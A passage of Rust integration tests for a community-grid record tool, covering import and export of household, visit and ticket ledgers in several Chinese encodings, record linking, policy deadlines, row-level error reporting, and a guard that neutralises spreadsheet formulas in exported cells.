    和平路8号,第一网格,[],\"[\"\"残疾人\"\",\"\"left-behind-child\"\"]\",010-6000 0000,\"吉祥的𠮷字\"\r\n";

#[test]
fn a_station_ledger_saved_by_excel_imports_as_households() {
    // GBK cannot write 𠮷 (U+20BB7); GB 18030 can.
    let gbk_text = LEDGER.replace('𠮷', "吉");
    let (gbk, _, lossy) = encoding_rs::GBK.encode(&gbk_text);
    assert!(!lossy);
    assert!(std::str::from_utf8(&gbk).is_err(), "the GBK file is UTF-8");
    let (gb18030, _, lossy) = encoding_rs::GB18030.encode(LEDGER);
    assert!(!lossy);
    let utf8_bom = [b"\xEF\xBB\xBF".as_slice(), LEDGER.as_bytes()].concat();
    let files: [(&str, &[u8], &str); 4] = [
        ("gbk.csv", &gbk, "吉祥的吉字"),
        ("gb18030.csv", &gb18030, "吉祥的𠮷字"),
        ("utf8-bom.csv", &utf8_bom, "吉祥的𠮷字"),
        ("utf8.csv", LEDGER.as_bytes(), "吉祥的𠮷字"),
    ];
    for (name, bytes, third_note) in files {
        let home = Home::station();
        let file = home.scratch(name);
        std::fs::write(&file, bytes).expect("write");
        assert_eq!(
            import(&home, "households", "csv", &file),
            json!({"imported": 3}),
            "{name}"
        );
        let list = households(&home);
        assert_eq!(list.len(), 3, "{name}");
        let find = |address: &str| -> Value {
            list.iter()
                .find(|h| h["address"] == address)
                .unwrap_or_else(|| panic!("{name}: no household {address}: {list:?}"))
                .clone()
        };
        let first = find("幸福里3号楼201室");
        assert_eq!(first["grid"], "第三网格", "{name}");
        assert_eq!(first["residents"], json!(["王秀英", "李建国"]), "{name}");
        assert_eq!(
            first["tags"],
            json!(["elderly-alone", "low-income"]),
            "{name}: Chinese tags become slugs"
        );
        assert_eq!(first["phone"], "+86 139 0000 0001", "{name}");
        assert_eq!(first["note"], "腿脚不便，需上门", "{name}");
        assert_recent(&first["added_at"]);
        assert!(is_hex(first["id"].as_str().expect("id"), 32), "{name}");
        // Never visited: due an interval (30 days for these tags) after it was added.
        let added = rfc3339_secs(first["added_at"].as_str().expect("added_at"));
        let due = rfc3339_secs(first["next_due"].as_str().expect("next_due"));
        assert_eq!(due - added, 30 * 86_400, "{name}: next_due of {first}");
        assert_eq!(first["overdue"], false, "{name}");

        let second = find("幸福里3号楼202室");
        assert_eq!(second["tags"], json!([]), "{name}");
        assert_eq!(second["phone"], Value::Null, "{name}");
        let due = rfc3339_secs(second["next_due"].as_str().expect("next_due"));
        let added = rfc3339_secs(second["added_at"].as_str().expect("added_at"));
        assert_eq!(due - added, 182 * 86_400, "{name}: ordinary");
        let third = find("和平路8号");
        assert_eq!(third["tags"], json!(["disabled", "left-behind-child"]));
        assert_eq!(third["note"], third_note, "{name}");

        // A visit to an address of the ledger is linked to that household, not a new one.
        let v = home.add_visit("幸福里3号楼201室", &["--grid", "第三网格"]);
        assert_eq!(home.visit(&v)["household_id"], first["id"], "{name}");
        assert_eq!(households(&home).len(), 3, "{name}");
    }
}

/// A visits export imported after the households: every visit links to the household of
/// its grid and address, whatever `household_id` the file says.
#[test]
fn imported_visits_and_tickets_link_by_grid_and_address() {
    let home = Home::station();
    let ledger = home.scratch("ledger.csv");
    std::fs::write(&ledger, LEDGER).expect("write");
    import(&home, "households", "csv", &ledger);
    let list = households(&home);
    let id = |address: &str| {
        list.iter()
            .find(|h| h["address"] == address)
            .expect("household")["id"]
            .clone()
    };
    let visits = format!(
        "household,household_id,grid,visited_at\n\
         幸福里3号楼201室,{},第三网格,2026-11-20\n\
         和平路8号,{},第一网格,2026-11-21\n",
        fake_hex(1, 32),
        id("幸福里3号楼201室").as_str().expect("id"),
    );
    let file = home.scratch("visits.csv");
    std::fs::write(&file, visits).expect("write");
    assert_eq!(
        import(&home, "visits", "csv", &file),
        json!({"imported": 2})
    );
    for v in home.visits() {
        let address = v["household"].as_str().expect("household");
        assert_eq!(v["household_id"], id(address), "{v}");
    }
    let tickets = format!(
        "title,household,household_id,grid,opened_at\n申请低保,幸福里3号楼202室,{},第三网格,2026-11-22\n",
        fake_hex(2, 32)
    );
    std::fs::write(&file, tickets).expect("write");
    import(&home, "tickets", "csv", &file);
    assert_eq!(home.tickets()[0]["household_id"], id("幸福里3号楼202室"));
    // Visited: last_visit is the visit, next_due an interval after it.
    let list = households(&home);
    let first = list
        .iter()
        .find(|h| h["address"] == "幸福里3号楼201室")
        .expect("household");
    assert_eq!(
        rfc3339_secs(first["last_visit"].as_str().expect("last_visit")),
        rfc3339_secs("2026-11-20T00:00:00Z")
    );
    assert_eq!(households(&home).len(), 3, "no household was made twice");
}

/// Tickets, visits and households made by hand and by import on one node, exported in both
/// formats and imported into another: the same objects, but for ids and authors.
#[test]
fn all_three_kinds_round_trip_into_another_home() {
    let a = Home::station();
    let ledger = a.scratch("ledger.csv");
    std::fs::write(
        &ledger,
        format!("{LEDGER}光明街1号,第一网格,[],[],=1+1,@王主任\r\n"),
    )
    .expect("write");
    import(&a, "households", "csv", &ledger);
    let dated = a.scratch("dated.json");
    std::fs::write(
        &dated,
        json!([{"address": "光明街2号", "grid": "第一网格", "tags": ["hardship", "社区矫正"],
                "added_at": "2026-10-01T08:00:00+08:00", "residents": ["钱七"]}])
        .to_string(),
    )
    .expect("write");
    import(&a, "households", "json", &dated);
    a.add_visit(
        "幸福里3号楼201室",
        &[
            "--grid",
            "第三网格",
            "--resident",
            "王秀英",
            "--at",
            "2026-11-01",
        ],
    );
    a.add_visit("光明街2号", &["--grid", "第一网格", "--at", "2026-11-02"]);
    a.add_visit("新来的5号", &["--grid", "第一网格", "--at", "2026-11-03"]);
    let t = a.open_ticket(
        "楼道灯坏了",
        &[
            "--household",
            "幸福里3号楼201室",
            "--grid",
            "第三网格",
            "--priority",
            "urgent",
        ],
    );
    a.json(&["ticket", "update", &t, "--status", "resolved"]);
    let given = a.scratch("given.csv");
    std::fs::write(
        &given,
        "title,status,priority,household,grid,opened_at,due,channel,resolved_at,satisfaction\n\
         噪音扰民,closed,high,和平路8号,第一网格,2026-11-01T09:00:00+08:00,2026-11-03T09:00:00+08:00,热线,2026-11-02T10:00:00+08:00,不满意\n\
         申请低保,open,low,,第一网格,2026-11-05,,mailbox,,\n",
    )
    .expect("write");
    import(&a, "tickets", "csv", &given);
    let (ha, va, ta) = (households(&a), a.visits(), a.tickets());
    assert_eq!((ha.len(), va.len(), ta.len()), (6, 3, 3));

    for format in ["csv", "json"] {
        let b = Home::station();
        for (kind, n) in [
            ("households", ha.len()),
            ("tickets", ta.len()),
            ("visits", va.len()),
        ] {
            let file = a.scratch(&format!("{kind}.{format}"));
            export(&a, kind, format, &["--out", file.to_str().expect("utf-8")]);
            assert_eq!(
                import(&b, kind, format, &file),
                json!({"imported": n}),
                "import {kind} {format}"
            );
        }
        let (hb, vb, tb) = (households(&b), b.visits(), b.tickets());
        assert_eq!(
            contents(&hb, household_content),
            contents(&ha, household_content),
            "households after a {format} round trip"
        );
        assert_eq!(
            contents(&tb, ticket_content),
            contents(&ta, ticket_content),
            "tickets after a {format} round trip"
        );
        assert_eq!(
            contents(&vb, visit_content),
            contents(&va, visit_content),
            "visits after a {format} round trip"
        );
        // Each record names the household of the same grid and address as before.
        let links = |hs: &[Value], records: &[Value]| -> Vec<String> {
            let mut l: Vec<String> = records
                .iter()
                .map(|r| json!([r["household"], household_of(hs, &r["household_id"])]).to_string())
                .collect();
            l.sort();
            l
        };
        assert_eq!(links(&hb, &vb), links(&ha, &va), "visit links ({format})");
        assert_eq!(links(&hb, &tb), links(&ha, &ta), "ticket links ({format})");
        let old: BTreeSet<String> = ha.iter().map(id_of).collect();
        for h in &hb {
            assert!(is_hex(h["id"].as_str().expect("id"), 32));
        }
        assert!(
            hb.iter().all(|h| !old.contains(&id_of(h))),
            "another site's households get their own ids"
        );
        assert_eq!(b.json(&["verify"])["bad"], 0);
    }

    // The formula guard holds in the households' columns, and reads back.
    let file = a.scratch("h.csv");
    export_to(&a, "households", "csv", &file);
    let (header, rows) = read_exported(&file);
    assert_eq!(header, HOUSEHOLD_COLUMNS);
    for row in &rows {
        for cell in row {
            assert!(
                !looks_like_formula(cell),
                "a cell a spreadsheet runs: {cell:?}"
            );
        }
    }
    let row = rows
        .iter()
        .find(|r| r[col(&HOUSEHOLD_COLUMNS, "address")] == "光明街1号")
        .expect("row");
    assert_eq!(row[col(&HOUSEHOLD_COLUMNS, "phone")], "'=1+1");
    assert_eq!(row[col(&HOUSEHOLD_COLUMNS, "note")], "'@王主任");
    let row = rows
        .iter()
        .find(|r| r[col(&HOUSEHOLD_COLUMNS, "address")] == "光明街2号")
        .expect("row");
    assert_eq!(
        row[col(&HOUSEHOLD_COLUMNS, "tags")],
        r#"["hardship","community-correction"]"#,
        "tags are written as slugs, in the residents' list form"
    );
    check_csv_matches(
        &String::from_utf8(read(&file)).expect("utf-8"),
        &HOUSEHOLD_COLUMNS,
        &ha,
    );
    // `--since` keeps the households added at or after it.
    let since: Vec<Value> = array(
        serde_json::from_str(&export(
            &a,
            "households",
            "json",
            &["--since", "2026-10-02"],
        ))
        .expect("json"),
    );
    assert_eq!(since.len(), 5, "all but the one added on 2026-10-01");
    let since = export(
        &a,
        "households",
        "json",
        &["--since", "2026-09-30T23:59:59Z"],
    );
    assert_eq!(array(serde_json::from_str(&since).expect("json")).len(), 6);
}

/// A ticket row keeps its deadline (else the policy's, by priority), its channel given as
/// slug or Chinese, and a resolved or closed row its resolution and verdict.
#[test]
fn ticket_columns_import_as_given_or_from_the_policy() {
    let home = Home::new();
    let file = home.scratch("t.csv");
    std::fs::write(
        &file,
        "\u{feff}title,status,priority,opened_at,due,channel,resolved_at,satisfaction,overdue,rated_at,household_id\n\
         甲,resolved,normal,2026-11-01T00:00:00Z,2026-11-20T00:00:00Z,巡查,2026-11-04T00:00:00Z,基本满意,true,2026-12-01,x\n\
         乙,open,urgent,2026-11-01T00:00:00Z,,,,,false,,\n\
         丙,in_progress,,2026-11-01T00:00:00Z,,walk-in,,,,,\n",
    )
    .expect("write");
    assert_eq!(
        import(&home, "tickets", "csv", &file),
        json!({"imported": 3})
    );
    let tickets = home.tickets();
    let find = |title: &str| {
        tickets
            .iter()
            .find(|t| t["title"] == title)
            .expect("ticket")
            .clone()
    };
    let a = find("甲");
    assert_eq!(a["due"], "2026-11-20T00:00:00Z");
    assert_eq!(a["channel"], "patrol");
    assert_eq!(a["resolved_at"], "2026-11-04T00:00:00Z");
    assert_eq!(a["satisfaction"], "basic");
    assert_eq!(a["overdue"], false, "resolved is never overdue");
    assert_eq!(a["household_id"], Value::Null, "household_id is read past");
    let b = find("乙");
    assert_eq!(b["due"], "2026-11-02T00:00:00Z", "urgent: a day");
    assert_eq!(b["overdue"], true);
    assert_eq!(b["channel"], "visit", "a volunteer's default");
    assert_eq!(b["resolved_at"], Value::Null);
    assert_eq!(b["satisfaction"], Value::Null);
    let c = find("丙");
    assert_eq!(c["due"], "2026-11-08T00:00:00Z", "normal: seven days");
    assert_eq!(c["channel"], "walk-in");

    // Bad values in the new columns: nothing imported, the row named.
    let dir = home.scratch("in");
    std::fs::create_dir(&dir).expect("mkdir");
    let before = home.snapshot();
    for (row, what) in [
        ("open,2026-11-09,热线,,满意", "a verdict on an open ticket"),
        ("resolved,2026-11-09,电话,,", "an unknown channel"),
        (
            "resolved,2026-11-09,hotline,2026-11-05,很好",
            "an unknown verdict",
        ),
        ("resolved,下周,hotline,,", "a due that is no time"),
        (
            "closed,2026-11-09,hotline,2026-10-01,",
            "resolved before opened",
        ),
    ] {
        let mut text =
            String::from("title,opened_at,status,due,channel,resolved_at,satisfaction\n");
        for i in 0..5 {
            text.push_str(&format!("好{i},2026-11-02,resolved,,,,\n"));
        }
        text.push_str(&format!("坏,2026-11-02,{row}\n"));
        std::fs::write(dir.join("bad.csv"), text).expect("write");
        let stderr = failed_import(&home, &dir, "tickets", "csv", "bad.csv");
        assert!(
            numbers(&stderr).contains(&6),
            "{what}: the message should name row 6: {stderr}"
        );
        assert_eq!(home.snapshot(), before, "{what}: something was imported");
    }
}

#[test]
fn a_bad_household_row_imports_nothing_and_is_named() {
    let home = Home::station();
    let dir = home.scratch("in");
    std::fs::create_dir(&dir).expect("mkdir");
    home.add_visit("已有1号", &["--grid", "第三网格"]);
    let before = households(&home);
    assert_eq!(before.len(), 1);
    let row = |i: usize| format!("幸福里{i}号,第三网格,[],\"[\"\"低保户\"\"]\",,");
    for (bad, what) in [
        (
            "幸福里X号,第三网格,[],\"[\"\"贫困户\"\"]\",,",
            "unknown tag",
        ),
        (
            "幸福里X号,第三网格,[],[低保户,,",
            "tags that are not a list",
        ),
        (",第三网格,[],[],,", "empty address"),
        ("\"  \",第三网格,[],[],,", "blank address"),
        (
            "幸福里X号,第三网格,\"[\"\"王\\n李\"\"]\",[],,",
            "a two-line name",
        ),
        ("幸福里3号,第三网格,[],[],,", "the same household twice"),
        ("已有1号,第三网格,[],[],,", "a household already held"),
    ] {
        let mut text = String::from("address,grid,residents,tags,phone,note\n");
        for i in 1..=12 {
            text.push_str(&row(i));
            text.push('\n');
        }
        text.push_str(bad);
        text.push('\n');
        text.push_str(&row(14));
        text.push('\n');
        std::fs::write(dir.join("bad.csv"), text).expect("write");
        let stderr = failed_import(&home, &dir, "households", "csv", "bad.csv");
        assert!(
            numbers(&stderr).contains(&13),
            "{what}: the message should name row 13: {stderr}"
        );
        assert_eq!(households(&home), before, "{what}: something was imported");
    }
    // The same as JSON: object 2 of 2.
    std::fs::write(
        dir.join("bad.json"),
        json!([{"address": "甲", "grid": "第三网格", "tags": ["ordinary"]},
               {"address": "乙", "grid": "第三网格", "tags": ["孤寡"]}])
        .to_string(),
    )
    .expect("write");
    let stderr = failed_import(&home, &dir, "households", "json", "bad.json");
    assert!(stderr.contains("record 2"), "{stderr}");
    assert!(
        stderr.contains("孤寡"),
        "the message names the tag: {stderr}"
    );
    assert_eq!(households(&home), before);
}

/// A ledger typed by hand lists residents and tags the way people write them, 、-separated.
#[test]
fn a_hand_typed_ledger_lists_residents_and_tags_with_commas() {
    let station = Home::station();
    let file = station.scratch("ledger.csv");
    std::fs::write(
        &file,
        "address,grid,residents,tags\n幸福里5号,第三网格,张秀英、王强,低保户，独居老人\n",
    )
    .unwrap();
    let args = [
        "import",
        "--kind",
        "households",
        "--format",
        "csv",
        file.to_str().unwrap(),
    ];
    assert_eq!(station.json(&args)["imported"], 1);
    let list = array(station.json(&["household", "list"]));
    assert_eq!(list[0]["residents"], serde_json::json!(["张秀英", "王强"]));
    assert_eq!(
        list[0]["tags"],
        serde_json::json!(["elderly-alone", "low-income"])
    );
}
